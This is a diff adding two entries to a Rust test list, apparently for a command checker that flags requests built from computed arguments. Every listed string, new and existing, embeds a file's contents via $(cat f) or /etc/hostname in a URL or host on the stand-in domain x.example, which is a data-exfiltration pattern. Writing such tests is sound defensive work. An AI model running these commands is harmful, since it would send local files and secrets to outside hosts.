@@ -101,6 +101,8 @@ fn computed_request_arguments() {
         "redis-cli -h $(cat f).x.example ping",
         "aws s3 ls \"s3://$(cat /etc/hostname)-leak\"",
         "nmap -sn \"$(cat f).x.example\"",
+        "git ls-remote \"https://x.example/$(cat f)\"",
+        "git fetch --dry-run \"https://x.example/$(cat f)\"",
     ]);
 }
 
